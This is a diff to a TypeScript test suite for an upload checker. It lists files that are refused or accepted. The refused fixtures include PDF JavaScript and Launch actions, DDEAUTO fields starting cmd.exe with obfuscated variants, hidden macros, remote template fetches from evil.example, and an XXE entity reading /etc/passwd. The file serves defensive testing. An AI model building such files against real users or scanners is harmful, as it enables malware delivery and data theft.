@@ -1,18 +1,10 @@
-import { deflateSync } from 'node:zlib';
-import { checkAttachment } from '../../files/check-file';
-import { DOCX_PARTS, docxWith, XLSX_PARTS, xlsxWith } from '../setup/office-file';
+import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
+import { confinedInspection } from '../setup/inspected';
+import { DOCX_PARTS, docxTyped, docxWith, typesOf, XLSX_PARTS, xlsxWith } from '../setup/office-file';
+import { pdfOf } from '../setup/pdf';
 import { packZip } from '../setup/zip';
 
 const bytes = (text: string) => Buffer.from(text, 'latin1');
-const pdf = (catalog: string, more = '') =>
-  bytes(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${catalog} >>\nendobj\n${more}trailer << /Root 1 0 R >>\n%%EOF\n`);
-
-/** A PDF whose objects lie packed in a stream, as newer programs write them. */
-function packedPdf(object: string): Buffer {
-  const inside = deflateSync(Buffer.from(`9 0 ${object}`));
-  const head = `%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inside.length} >>\nstream\n`;
-  return Buffer.concat([bytes(head), inside, bytes('\nendstream\nendobj\n')]);
-}
 
 function png(width: number, height: number): Buffer {
   const size = Buffer.alloc(8);
@@ -33,33 +25,29 @@ const relations = (type: string, target: string) =>
 const withRelation = (type: string, target: string, part = 'word/_rels/settings.xml.rels') =>
   docxWith([{ name: part, content: relations(type, target) }]);
 const withXml = (content: string | Buffer) => docxWith([{ name: 'customXml/item1.xml', content }]);
-const macroTypes = '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>';
+const macroTypes =
+  '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>';
+const internal = (type: string, target: string) => relations(type, target).replace(' TargetMode="External"', '');
+const document = (content: string) => packZip([DOCX_PARTS[0]!, { ...DOCX_PARTS[1]!, content }]);
+const field = (...codes: string[]) =>
+  document(
+    `<w:document><w:body>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}</w:body></w:document>`,
+  );
+/** How a compound file (OLE) begins. */
+const OLE = Buffer.concat([bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), Buffer.alloc(504)]);
+const part = (name: string, content: string | Buffer) => docxWith([{ name, content }]);
+const sheetPart = (name: string, content: string) => xlsxWith([{ name, content }]);
 const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
 const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';
 
 const REFUSED: [string, string, Buffer][] = [
-  ['a PDF that runs JavaScript when opened', 'a.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
-  ['a PDF that runs JavaScript when a page is turned', 'a.pdf', pdf('/AA << /O << /S/JavaScript/JS 5 0 R >> >>')],
-  ['a PDF with JavaScript among its names', 'a.pdf', pdf('/Names << /JavaScript 4 0 R >>')],
-  ['a PDF that hides the word JavaScript', 'a.pdf', pdf('/OpenAction << /S /J#61va#53cript /JS (1) >>')],
-  ['a PDF with JavaScript in a packed object', 'a.pdf', packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
-  ['a PDF that starts a program', 'a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
-  ['a PDF that starts a program from a packed object', 'a.pdf', packedPdf('<< /S/Launch/Win<</F(cmd.exe)>> >>')],
-  ['a PDF with a file inside', 'a.pdf', pdf('/Names << /EmbeddedFiles 4 0 R >>')],
-  [
-    'a PDF with a file as a stream',
-    'a.pdf',
-    pdf('', '3 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n'),
-  ],
-  ['a PDF with a Flash film', 'a.pdf', pdf('', '3 0 obj << /Subtype /RichMedia >> endobj\n')],
-  ['a PDF that fetches form data', 'a.pdf', pdf('/OpenAction << /S /ImportData /F (x.fdf) >>')],
   ['a web page by the name of a PDF', 'a.pdf', bytes('<html><script>alert(1)</script></html>')],
   ['a web page with a PDF’s head later on', 'a.pdf', bytes('<!-- %PDF-1.7 --><html></html>')],
   ['a program by the name of a PDF', 'a.pdf', bytes('MZ\x90\0')],
   ['a PostScript program', 'a.pdf', bytes('%!PS-Adobe-3.0\n(%stdout) (w) file')],
   ['EICAR by the name of a PDF', 'a.pdf', bytes(EICAR)],
   ['EICAR by the name of a DOCX', 'a.docx', bytes(EICAR)],
-  ['an archive behind a PDF', 'a.pdf', Buffer.concat([pdf(''), docxWith()])],
+  ['an archive behind a PDF', 'a.pdf', Buffer.concat([pdfOf(['x']), docxWith()])],
   ['an archive behind a JPG', 'a.jpg', Buffer.concat([jpg(10, 10), packZip([{ name: 'a.exe', content: 'MZ' }])])],
   [
     'an archive behind a PNG, with a comment',
@@ -94,6 +82,106 @@ const REFUSED: [string, string, Buffer][] = [
   ],
   ['the same after a long comment', 'a.docx', withXml(`<!--${' '.repeat(200_000)}-->${DTD}`)],
   ['the same in UTF-16', 'a.docx', withXml(Buffer.from(`\ufeff${DTD}`, 'utf16le'))],
+  ['the same in a part that is not named XML', 'a.docx', part('customXml/item1.dat', DTD)],
+  ['a DOCX in an encoding that hides its markup', 'a.docx', withXml('<?xml version="1.0" encoding="UTF-7"?><a/>')],
+  ['a DOCX with a program', 'a.docx', part('word/embeddings/x.exe', 'MZ')],
+  ['a DOCX with a program named as a picture', 'a.docx', part('word/media/a.png', 'MZ\x90\0')],
+  ['a DOCX with a script', 'a.docx', part('word/embeddings/x.js', 'WScript.Echo(1)')],
+  ['a DOCX with a shortcut', 'a.docx', part('word/embeddings/x.bin', bytes('L\0\0\0\x01\x14\x02\0'))],
+  ['a DOCX with a packaged object', 'a.docx', part('word/embeddings/oleObject1.bin', OLE)],
+  ['a DOCX with a 7z archive named as a picture', 'a.docx', part('word/media/a.png', bytes('7z\xbc\xaf\x27\x1c'))],
+  ['a DOCX with a RAR archive named as a picture', 'a.docx', part('word/media/a.png', bytes('Rar!\x1a\x07\0'))],
+  ['a DOCX with a PDF that is no picture', 'a.docx', part('word/embeddings/a.bin', pdfOf(['x']))],
+  ['a DOCX that puts in a web page', 'a.docx', part('word/_rels/document.xml.rels', internal('aFChunk', 'c.xml'))],
+  ['a DOCX that puts in an RTF file', 'a.docx', part('word/c.rtf', '{\\rtf1 x}')],
+  ['a DOCX that says where to put a file in', 'a.docx', document('<w:document><w:altChunk r:id="x"/></w:document>')],
+  [
+    'macros whose type is written with a character reference',
+    'a.docx',
+    docxTyped('<Override PartName="/word/a.bin" ContentType="application/vnd.ms-offic&#101;.vbaProject"/>', [
+      { name: 'word/a.bin', content: 'x' },
+    ]),
+  ],
+  [
+    'macros that a relation names',
+    'a.docx',
+    part(
+      'word/_rels/document.xml.rels',
+      '<Relationships><Relationship Id="a" Type="http://x/relationships/vba&#80;roject" Target="a.bin"/></Relationships>',
+    ),
+  ],
+  [
+    'macros of Excel 4 at another path',
+    'a.xlsx',
+    xlsxWith([
+      { name: 'xl/sheets/s.xml', content: '<a/>' },
+      { name: 'xl/_rels/workbook.xml.rels', content: internal('xlMacrosheet', 'sheets/s.xml') },
+    ]),
+  ],
+  [
+    'macros of Excel 4 by their type',
+    'a.xlsx',
+    packZip([
+      {
+        name: '[Content_Types].xml',
+        content: typesOf(
+          'xl/workbook.xml',
+          'spreadsheetml.sheet.main',
+          '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
+        ),
+      },
+      XLSX_PARTS[1]!,
+    ]),
+  ],
+  [
+    'an XLSX that asks another program',
+    'a.xlsx',
+    sheetPart('xl/x/e.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
+  ],
+  [
+    'the same with a prefix',
+    'a.xlsx',
+    sheetPart('xl/x/e.xml', '<x:externalLink xmlns:x="y"><x:ddeLink x:ddeService="cmd"/></x:externalLink>'),
+  ],
+  [
+    'an XLSX that fetches when it is opened',
+    'a.xlsx',
+    sheetPart('xl/connections.xml', '<connections><connection refreshOnLoad="&#49;"/></connections>'),
+  ],
+  ['a DOCX with a field that starts a program', 'a.docx', field('DDEAUTO c:\\\\windows\\\\cmd.exe')],
+  ['the same in pieces', 'a.docx', field('DD', 'E', 'AUTO cmd')],
+  ['the same in character references', 'a.docx', field('&#68;DE cmd')],
+  ['the same in a section of plain text', 'a.docx', field('<![CDATA[DDEAUTO cmd]]>')],
+  ['the same split by a comment', 'a.docx', field('DD<!-- -->EAUTO cmd')],
+  ['the same letter by letter', 'a.docx', field('QUOTE 68 68 69 65 85 84 79')],
+  ['the same as a simple field', 'a.docx', document('<w:document><w:fldSimple w:instr=" DDE cmd "/></w:document>')],
+  [
+    'a DOCX with a picture of another computer in a field',
+    'a.docx',
+    field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" '),
+  ],
+  [
+    'a DOCX with a picture of another computer',
+    'a.docx',
+    withRelation('image', 'file://evil.example/share/x.png', 'word/_rels/document.xml.rels'),
+  ],
+  [
+    'the same as a path of Windows',
+    'a.docx',
+    withRelation('image', '\\\\evil.example\\x.png', 'word/_rels/document.xml.rels'),
+  ],
+  [
+    'the same with a hidden path',
+    'a.docx',
+    withRelation('image', 'file:///%5C%5Cevil.example/x.png', 'word/_rels/document.xml.rels'),
+  ],
+  [
+    'a DOCX whose letters come from a data source',
+    'a.docx',
+    withRelation('mailMergeSource', 'file://evil.example/a.mdb'),
+  ],
+  ['a DOCX with an add-in', 'a.docx', part('_rels/.rels', internal('webextensiontaskpanes', 'a.xml'))],
+  ['a DOCX whose markup does not end', 'a.docx', part('word/_rels/document.xml.rels', '<Relationships><Relationship>')],
   ['a DOCX that fetches its template', 'a.docx', withRelation('attachedTemplate', 'https://evil.example/t.dotm')],
   ['the same from a share', 'a.docx', withRelation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
   ['the same with a hidden address', 'a.docx', withRelation('attachedTemplate', '&#104;ttps://evil.example/t.dotm')],
@@ -113,8 +201,12 @@ const REFUSED: [string, string, Buffer][] = [
   ['an SVG', 'a.svg', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
   ['an SVG by the name of a PNG', 'a.png', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
   ['a GIF by the name of a PNG', 'a.png', bytes('GIF89a/*')],
+  ['a PNG that is only its head', 'a.png', bytes('\x89PNG\r\n\x1a\n')],
+  ['a JPG without a picture', 'a.jpg', bytes('\xff\xd8\xff\xe0')],
+  ['a RAR archive behind a JPG', 'a.jpg', Buffer.concat([jpg(10, 10), bytes('Rar!\x1a\x07\x01\0')])],
+  ['a 7z archive behind a PNG', 'a.png', Buffer.concat([png(10, 10), bytes('7z\xbc\xaf\x27\x1c')])],
   ['a JPG by the name of a PNG', 'a.png', jpg(10, 10)],
-  ['a PDF by the name of a JPG', 'a.jpg', pdf('')],
+  ['a PDF by the name of a JPG', 'a.jpg', pdfOf(['x'])],
   ['an old DOC with a password or macros', 'a.docx', bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
   ['a shortcut', 'a.pdf', bytes('L\0\0\0\x01\x14\x02\0')],
   ['a plain archive', 'a.xlsx', packZip([{ name: 'a.txt', content: 'x' }])],
@@ -122,20 +214,56 @@ const REFUSED: [string, string, Buffer][] = [
 
 /** Taken, because refusing would hit honest reports; the file comes back inert (`w08-served-files`). */
 const TAKEN: [string, string, Buffer][] = [
-  ['a PDF that opens at its first page', 'a.pdf', pdf('/OpenAction [3 0 R /FitH null]')],
-  ['a PDF with a link whose address ends in JS', 'a.pdf', pdf('/A << /S /URI /URI (https://gialai.example/JS) >>')],
-  ['a JPG whose comment holds a web page', 'a.jpg', jpg(10, 10, '\xff\xfe\0\x1c<script>alert(1)</script>')],
+  ['a JPG whose comment holds a web page', 'a.jpg', jpg(10, 10, '\xff\xfe\0\x1b<script>alert(1)</script>')],
   ['a scanned A3 page at 600 dots an inch', 'a.jpg', jpg(9_921, 7_016)],
   [
     'a DOCX with links people click',
     'a.docx',
     withRelation('hyperlink', 'https://gialai.gov.vn', 'word/_rels/document.xml.rels'),
   ],
-  [
-    'a DOCX with a template on its writer’s disk',
+  ...[
+    'file:///C:\\Users\\Lan\\Normal.dotm',
+    'file:///C:/Users/Lan/Normal.dotm',
+    'file:\\\\C:\\Users\\Lan\\Normal.dotm',
+    'C:\\Users\\Lan\\Normal.dotm',
+    'file:///home/lan/Templates/cong-van.dotx',
+    'file:////Users/lan/Library/Group%20Containers/Normal.dotm',
+    '/Users/lan/Normal.dotm',
+    'Normal.dotm',
+  ].map((target): [string, string, Buffer] => [
+    `a DOCX with a template on its writer’s disk, ${target}`,
     'a.docx',
-    withRelation('attachedTemplate', 'file:///C:\\Users\\Lan\\Normal.dotm'),
+    withRelation('attachedTemplate', target),
+  ]),
+  ['a DOCX with a table of contents', 'a.docx', field(' TOC \\\\o &quot;1-3&quot; ', ' PAGE ')],
+  [
+    'an XLSX whose pivot table reads its own sheet again',
+    'a.xlsx',
+    sheetPart('xl/pivotCache/a.xml', '<pivotCacheDefinition refreshOnLoad="1"/>'),
   ],
+  ['a DOCX with a part that has no ending, as Google writes it', 'a.docx', part('xl/metadata', '<a/>')],
+  ['a DOCX with a picture as PDF, as Word for macOS writes it', 'a.docx', part('word/media/image1.pdf', pdfOf(['x']))],
+  [
+    'a DOCX with a drawing that names the public type of SVG',
+    'a.docx',
+    part('word/media/a.svg', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg/>'),
+  ],
+  [
+    'a DOCX with a picture of the web',
+    'a.docx',
+    withRelation('image', 'https://gialai.gov.vn/a.png', 'word/_rels/document.xml.rels'),
+  ],
+  [
+    'a DOCX whose main part has another name, as Word on the web writes it',
+    'a.docx',
+    packZip([
+      { name: '[Content_Types].xml', content: typesOf('word/document2.xml', 'wordprocessingml.document.main') },
+      { ...DOCX_PARTS[1]!, name: 'word/document2.xml' },
+    ]),
+  ],
+  ['a photo with another ending of its kind', 'a.jfif', jpg(10, 10)],
+  ['a PDF behind a byte order mark', 'a.pdf', Buffer.concat([bytes('\xef\xbb\xbf'), pdfOf(['x'])])],
+  ['a PDF behind an empty line', 'a.pdf', Buffer.concat([bytes('\r\n'), pdfOf(['x'])])],
   [
     'a DOCX that speaks of entities',
     'a.docx',
@@ -143,10 +271,11 @@ const TAKEN: [string, string, Buffer][] = [
   ],
 ];
 
-describe('W8: a file that would do something when it is opened', () => {
+describe('a file that would do something when it is opened', () => {
+  const inspected = confinedInspection();
+
   it.each(REFUSED)('is refused with code and reason: %s', async (_, name, content) => {
-    const checked = await checkAttachment(name, content);
-    expect(checked).toMatchObject({
+    expect(await inspected(name, content)).toMatchObject({
       ok: false,
       code: 'UPLOAD_TYPE',
       message: expect.stringContaining(`Tệp “${name}”`),
@@ -154,6 +283,13 @@ describe('W8: a file that would do something when it is opened', () => {
   });
 
   it.each(TAKEN)('is not seen where there is none: %s', async (_, name, content) => {
-    expect(await checkAttachment(name, content)).toMatchObject({ ok: true });
+    expect(await inspected(name, content)).toMatchObject({ ok: true });
+  });
+
+  it('is refused when an archive with sizes of 64 bits stands behind a PDF', async () => {
+    const writer = new ZipWriter(new Uint8ArrayWriter(), { zip64: true });
+    await writer.add('a.exe', new TextReader('MZ'));
+    const content = Buffer.concat([pdfOf(['x']), await writer.close()]);
+    expect(await inspected('a.pdf', content)).toMatchObject({ ok: false, message: expect.stringContaining('tệp nén') });
   });
 });
